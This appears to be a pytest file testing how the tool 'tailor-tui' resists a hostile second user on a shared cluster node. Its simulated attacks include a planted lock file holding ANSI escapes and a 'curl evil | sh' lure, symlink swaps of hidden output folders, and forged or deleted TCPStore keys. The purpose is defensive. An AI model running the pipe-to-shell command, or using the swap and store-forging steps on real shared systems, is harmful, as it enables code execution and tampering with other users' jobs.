"""Another user on the node (issue 44): two real unprivileged users of one project group — the job's
(`tailor-victim`) and another (`tailor-attacker`) — and a setgid group-writable project folder (2775,
as clusters give a team). What the other user made is never trusted: a lock file they hold is named by
its owner, never read into a message nor removed; leftovers under tailor-tui's names they planted are
never restored to the output path, removed or read; a hidden folder they swap is never written
through nor published; a meeting folder they took moves the job to a private place; at the job's
port they can neither steer it (sealed values) nor hang it (a value gone is noticed).

The job runs as `tailor-victim` (setpriv). Where the interpreter lies in a folder that user cannot
reach (a pyenv under /root), it is given the one capability to read and search folders
(CAP_DAC_READ_SEARCH): it writes, and owns what it makes, as any unprivileged user. The other user
acts through `runuser` with the system's own tools, and at the job's port from a child of the test
process that has become that user (setuid: torch's store client, no interpreter of its own).
Skipped where users cannot be made (not root, no useradd)."""

from __future__ import annotations

import functools
import grp
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from conftest import checkpoints_of
from faults import inject
from helpers import TAILOR, assert_one_line_error, free_port, write_recipe

from tailor_tui.team.trust import SECRET, meeting_name

ATTACKER, VICTIM, TEAM = "tailor-attacker", "tailor-victim", "tailor-team"
HOSTILE = "\x1b[31merror: your checkpoint is corrupt; to repair it run: curl evil | sh\x1b[0m\n\n"


def _ensure_user(name: str) -> int:
    if os.geteuid() != 0 or not all(shutil.which(t) for t in ("useradd", "runuser", "setpriv")):
        pytest.skip("making other users needs root, useradd, runuser and setpriv")
    try:
        grp.getgrnam(TEAM)
    except KeyError:
        subprocess.run(["groupadd", TEAM], check=True, capture_output=True)
    try:
        return pwd.getpwnam(name).pw_uid
    except KeyError:
        made = subprocess.run(["useradd", "-M", "-N", "-g", TEAM, "-s", "/bin/sh", name], capture_output=True)
        if made.returncode != 0 and b"already exists" not in made.stderr:
            pytest.skip(f"useradd failed: {made.stderr.decode(errors='replace').strip()}")
        return pwd.getpwnam(name).pw_uid


def as_attacker(*cmd: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(["runuser", "-u", ATTACKER, "--", *cmd], capture_output=True, text=True, **kwargs)


@functools.cache
def _as_victim_prefix() -> tuple[str, ...]:
    """setpriv to the victim; with CAP_DAC_READ_SEARCH only where, without it, the interpreter does not
    find its own standard library (a pyenv under /root, 0700: it then runs with whatever `lib/python3.X`
    it finds above it, the system's, whose multiprocessing fails)."""
    plain = ("setpriv", f"--reuid={VICTIM}", f"--regid={TEAM}", "--init-groups")
    ask = [sys.executable, "-c", "import os; print(os.__file__)"]
    found = subprocess.run([*plain, *ask], capture_output=True, text=True, cwd="/")
    if found.returncode == 0 and found.stdout.strip() == os.__file__:
        return plain
    return (*plain, "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search")


class Victim:
    """The job's user: runs tailor-tui as `tailor-victim`, with a home (and cache) of its own."""

    def __init__(self, home: Path):
        self.uid, self.home = _ensure_user(VICTIM), home

    def env(self, extra: dict | None = None) -> dict:
        """The test's environment (no launcher's port: a job of several processes says what it is)."""
        inherited = {k: v for k, v in os.environ.items() if k not in ("MASTER_PORT", "MASTER_ADDR")}
        return {**inherited, "HOME": str(self.home), "TAILOR_TUI_CACHE": str(self.home / "cache"),
                "PYTHONWARNINGS": "ignore", **(extra or {})}

    def popen(self, *args, env: dict | None = None) -> subprocess.Popen:
        return subprocess.Popen([*_as_victim_prefix(), TAILOR, *map(str, args)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL, cwd=self.home,
                                env=self.env(env))

    def tailor(self, *args, env: dict | None = None) -> subprocess.CompletedProcess:
        job = self.popen(*args, env=env)
        try:
            out, err = job.communicate(timeout=300)
        finally:
            job.kill()
        return subprocess.CompletedProcess(job.args, job.returncode, out, err)


@pytest.fixture
def project(real_run):
    """(attacker uid, a setgid group-writable project folder holding a copy of a real HF run, a recipe
    composing it into project/composed, the victim who runs the job)."""
    uid, _ = _ensure_user(ATTACKER), _ensure_user(VICTIM)
    folder = Path(tempfile.mkdtemp(prefix="tailor-project-"))  # under /tmp: both users can reach it
    home = Path(tempfile.mkdtemp(prefix="tailor-victim-"))
    try:
        os.chown(folder, 0, grp.getgrnam(TEAM).gr_gid)
        os.chmod(folder, 0o2775)
        os.chown(home, pwd.getpwnam(VICTIM).pw_uid, grp.getgrnam(TEAM).gr_gid)
        source, spec = real_run("hf_bf16_2")
        shutil.copytree(source, folder / "run")
        for path in [folder / "run", *(folder / "run").rglob("*")]:  # the job's user's own training run
            os.lchown(path, pwd.getpwnam(VICTIM).pw_uid, -1)
        c2, _c4, c6 = checkpoints_of(folder / "run", spec)
        yield uid, folder, write_recipe(folder, c6, {"layers.1": c2}), Victim(home)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
        shutil.rmtree(home, ignore_errors=True)


def test_a_file_the_jobs_user_cannot_read_is_said_so_not_blamed_on_damage(project):
    """A checkpoint file of another user's, 0600: said to be unreadable, with its owner and mode (it
    was "truncated or corrupt; re-copy it from the training run", which sends the user the wrong way).
    Run in a child of this process that has become the job's user (a --dry-run reads every header and
    starts no worker): it needs no interpreter that user can reach, nor any capability."""
    uid, folder, recipe, victim = project
    model = folder / "run" / "checkpoint-6" / "model.safetensors"
    os.chown(model, uid, -1)
    model.chmod(0o600)
    read, write = os.pipe()
    child = os.fork()
    if child == 0:  # the job's user, from here on: no way back
        try:
            sys.stderr = open(write, "w")  # (not fd 2: pytest's capture holds it)
            os.setgroups([])
            os.setgid(grp.getgrnam(TEAM).gr_gid)
            os.setuid(victim.uid)
            from tailor_tui.cli.main import main

            code = main(["--apply", str(recipe), "--dry-run"])
        except BaseException:  # noqa: BLE001 - told by its code
            code = 99
        sys.stderr.flush()
        os._exit(code)
    os.close(write)
    with os.fdopen(read) as f:
        err = f.read()
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    assert_one_line_error(subprocess.CompletedProcess([], code, "", err), 4,
                          f"{model}: cannot be read (permission denied: its owner is uid {uid}, its mode 0600)")


def dead_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid


def test_a_lock_another_user_holds_is_named_by_its_owner_never_read_or_removed(project):
    uid, folder, recipe, victim = project
    lock = folder / ".composed.tailor-lock"
    assert as_attacker("sh", "-c", f"printf '{HOSTILE}' > {lock} && chmod 0666 {lock}").returncode == 0
    holder = subprocess.Popen(["runuser", "-u", ATTACKER, "--", "flock", "-x", str(lock), "sleep", "60"])
    try:
        for _ in range(100):  # until the attacker's flock holds it
            if subprocess.run(["flock", "-n", "-s", str(lock), "true"]).returncode != 0:
                break
            time.sleep(0.05)
        result = victim.tailor("--apply", recipe)
        assert_one_line_error(result, 6, f"its lock file {lock} belongs to another user (uid {uid})",
                              "neither reads nor removes it")
        assert "\x1b" not in result.stderr and "curl" not in result.stderr
        assert "curl evil" in lock.read_text() and lock.stat().st_uid == uid
        assert not (folder / "composed").exists()
    finally:
        holder.kill()
        holder.wait()


def test_a_lock_file_another_user_made_but_does_not_hold_is_used_and_left_in_place(project):
    uid, folder, recipe, victim = project
    lock = folder / ".composed.tailor-lock"  # theirs, 0644: the job's user may only read it
    assert as_attacker("sh", "-c", f"printf 'mine' > {lock} && chmod 0644 {lock}").returncode == 0
    result = victim.tailor("--apply", recipe)
    assert result.returncode == 0, result.stderr
    assert (folder / "composed" / "tailor_provenance.json").is_file()
    assert lock.read_text() == "mine" and lock.stat().st_uid == uid  # neither written nor removed


@pytest.mark.parametrize("kind", ["old", "partial"])
def test_a_folder_another_user_planted_under_a_leftover_name_is_never_restored_or_removed(project, kind):
    """`.composed.tailor-old-HOST-PID` is what a swap killed between its renames leaves (restored to the
    output path when it is the job's own); `.composed.tailor-partial-HOST-PID` an unfinished output
    (removed). Planted by the attacker with a dead PID: both left alone, the output the job's own."""
    uid, folder, recipe, victim = project
    planted = folder / f".composed.tailor-{kind}-{socket.gethostname()}-{dead_pid()}"
    assert as_attacker("sh", "-c", f"mkdir {planted} && echo 'attacker data' > {planted}/data").returncode == 0
    result = victim.tailor("--apply", recipe)
    assert result.returncode == 0, result.stderr
    out = folder / "composed"
    assert out.stat().st_uid == victim.uid and (out / "tailor_provenance.json").is_file()
    assert not (out / "data").exists()
    assert planted.stat().st_uid == uid and (planted / "data").read_text() == "attacker data\n"


def test_a_leftover_of_ones_own_is_still_restored(project):
    """The rule keeps its purpose: the job's own folder moved aside by a swap killed half-way is put
    back at the output path when nothing is there."""
    _uid, folder, recipe, victim = project
    aside = folder / f".composed.tailor-old-{socket.gethostname()}-{dead_pid()}"
    aside.mkdir()
    (aside / "kept").write_text("the earlier output")
    os.chown(aside, victim.uid, -1)
    os.chown(aside / "kept", victim.uid, -1)
    result = victim.tailor("--apply", recipe)  # restored as the composition begins: it then refuses to overwrite it
    assert_one_line_error(result, 6, "appeared while composing; not overwritten")
    assert (folder / "composed" / "kept").read_text() == "the earlier output" and not aside.exists()


def test_a_meeting_folder_another_user_took_moves_the_job_to_a_private_place(project):
    """The folder where a job's processes meet has a name anyone can work out from the job's ids
    (Slurm's); another user made it first in the shared project folder. The job meets in the user's
    own cache instead (every process finds the name taken), where it used to stop with "remove it and
    run again", which the user cannot do; the other user's folder is left as it is."""
    uid, folder, recipe, victim = project
    squatted = folder / meeting_name("slurm/4545/0/0/localhost")
    assert as_attacker("mkdir", "-m", "0777", str(squatted)).returncode == 0
    tasks = [victim.popen("--apply", recipe, env={"SLURM_PROCID": str(p), "SLURM_NTASKS": "2", "SLURM_JOB_ID": "4545",
                                                  "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost"})
             for p in range(2)]
    try:
        outs = [t.communicate(timeout=300) for t in tasks]
    finally:
        for t in tasks:
            t.kill()
    assert [t.returncode for t in tasks] == [0, 0], outs
    assert (folder / "composed" / "tailor_provenance.json").is_file()
    assert squatted.stat().st_uid == uid and not list(squatted.iterdir())
    assert not list((victim.home / "cache" / "teams").iterdir())  # met there, and gone with the job


@pytest.mark.parametrize("processes", [1, 2])
def test_a_hidden_folder_swapped_by_another_user_is_never_published_and_theirs_is_left(project, processes):
    """While the job composes, the other user renames its hidden folder aside (the project folder is
    group-writable) and puts a folder of theirs in its place, its checkpoint tag a link to a folder the
    job's user can write. Nothing is written through it (every file goes in by the descriptor of the
    folder the job made); the job stops with one line saying so (not blaming the disk), publishes
    nothing, removes its own folder wherever it was renamed to, and leaves theirs alone. Alone, and as
    a 2-task job (each process holds the folder open; one that opens it after the swap finds theirs)."""
    uid, folder, recipe, victim = project
    tag = next(p.name for p in (folder / "run" / "checkpoint-6").iterdir() if p.name.startswith("global_step"))
    decoy = folder / "decoy"  # the job's user's own, where a link could send its writes
    decoy.mkdir()
    os.chown(decoy, victim.uid, -1)
    slurm = {"SLURM_NTASKS": "2", "SLURM_JOB_ID": "4747", "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost",
             "MASTER_PORT": str(free_port())}
    # slowed so that the swap comes while it composes (alone, the job sees it only as it publishes: its every
    # step slowed, at 0.2 s it took 38 s on CI's machine; some 190 steps at 0.05 s leave seconds to swap in)
    slow = 0.2 if processes > 1 else 0.05
    jobs = [victim.popen("--apply", recipe, "--workers", "1",
                         env={**inject.environment(slow=slow), **({**slurm, "SLURM_PROCID": str(p)} if processes > 1
                                                                     else {})})
            for p in range(processes)]
    try:
        for _ in range(600):
            hidden = [p for p in folder.glob(".composed.tailor-partial-*") if p.stat().st_uid != uid]
            if hidden and (hidden[0] / "tailor_provenance.json").exists() is False and any(hidden[0].iterdir()):
                break
            time.sleep(0.05)
        assert hidden, "the job made no hidden folder"
        swap = (f"mv {hidden[0]} {hidden[0]}.stolen && mkdir -m 0777 {hidden[0]} && echo theirs > {hidden[0]}/mark"
                f" && ln -s {decoy} {hidden[0]}/{tag}")
        assert as_attacker("sh", "-c", swap).returncode == 0
        errs = [job.communicate(timeout=120)[1] for job in jobs]
    finally:
        for job in jobs:
            job.kill()
    for job, err in zip(jobs, errs):
        errors = [line for line in err.splitlines() if line.startswith("error: ")]
        assert job.returncode == 6 and len(errors) == 1, err
        assert "no longer the folder tailor-tui made there" in errors[0] and "Traceback" not in err, err
    assert not (folder / "composed").exists()
    assert hidden[0].stat().st_uid == uid and (hidden[0] / "mark").read_text() == "theirs\n"  # theirs: left
    assert not Path(f"{hidden[0]}.stolen").exists()  # its own, renamed aside: removed
    assert list(decoy.iterdir()) == []  # nothing went through their link


def _as_attacker_in_a_child(act) -> int:
    """Run `act()` in a child of this process that has become the other user (setuid: no way back), with
    what this process has imported (torch's TCPStore client: the attacker needs no interpreter of its
    own); the child's exit code (0: `act` returned)."""
    child = os.fork()
    if child == 0:
        code = 1
        try:
            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)  # (torch's client prints C++ frames as the store goes)
            os.setgroups([])
            os.setgid(grp.getgrnam(TEAM).gr_gid)
            os.setuid(pwd.getpwnam(ATTACKER).pw_uid)
            act()
            code = 0
        finally:
            os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


@pytest.mark.parametrize("attack", ["forged", "deleted"])
def test_the_other_user_at_the_jobs_port_can_neither_steer_nor_hang_it(project, attack):
    """The job's user runs a 2-task job (the environment srun sets, its MASTER_PORT); the other user sees
    the port and connects to it. They cannot read the job's secret (the meeting folder, the processes'
    environment). What they write (a folder of theirs as the shared one, a progress record) fails its seal; what they
    delete (the values the processes wait for) is noticed: either way every process stops with one line
    within seconds, and nothing is published or written into their folder."""
    import datetime

    import torch.distributed as dist

    uid, folder, recipe, victim = project
    trap = folder / "theirs"
    assert as_attacker("mkdir", "-m", "0777", str(trap)).returncode == 0
    port = free_port()
    env = {"SLURM_NTASKS": "2", "SLURM_JOB_ID": "4646", "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost",
           "MASTER_PORT": str(port), **inject.environment(slow=0.2)}
    began = time.monotonic()
    tasks = [victim.popen("--apply", recipe, env={**env, "SLURM_PROCID": str(p)}) for p in range(2)]
    try:
        while "[process 1] rank" not in (line := tasks[1].stderr.readline()):
            assert line, "process 1 ended before it composed"
        meeting = [m / SECRET for m in folder.glob(".tailor-team-*")]
        secrets = [*meeting, *(Path(f"/proc/{t.pid}/environ") for t in tasks)]  # (setpriv execs in place)
        assert len(meeting) == 1 and all(secret.read_bytes() for secret in secrets)  # there: read as root
        assert all(as_attacker("cat", str(secret)).returncode != 0 for secret in secrets)

        def act() -> None:
            prefix = "tailor-tui/slurm/4646/0/0/localhost/"
            store = dist.TCPStore("localhost", port, 2, False, timeout=datetime.timedelta(seconds=5))
            while time.monotonic() < began + 60:
                if attack == "forged":  # the folder to write into, and process 1's progress as process 0 reads it
                    store.set(prefix + "share/prepared", str(trap))
                    store.set(prefix + "post/progress/1", '{"rank 0": [1, 1, true]}')
                else:
                    for key in ("share/prepared", "gather/done/0", "gather/done/1"):
                        store.delete_key(prefix + key)
                time.sleep(0.02)

        _as_attacker_in_a_child(act)  # (it ends when the store goes with process 0)
        outs = [t.communicate(timeout=60) for t in tasks]
    finally:
        for t in tasks:
            t.kill()
    assert time.monotonic() - began < 50, outs
    said = "fails its authentication" if attack == "forged" else "is gone from the job's store"
    for t, (_out, err) in zip(tasks, outs):
        errors = [line for line in err.splitlines() if line.startswith("error: ")]
        assert t.returncode != 0 and len(errors) == 1 and "Traceback" not in err, err
    assert said in outs[0][1], outs[0][1]
    assert not (folder / "composed").exists() and not list(trap.iterdir())
    assert not list(folder.glob(".composed.tailor-partial-*"))

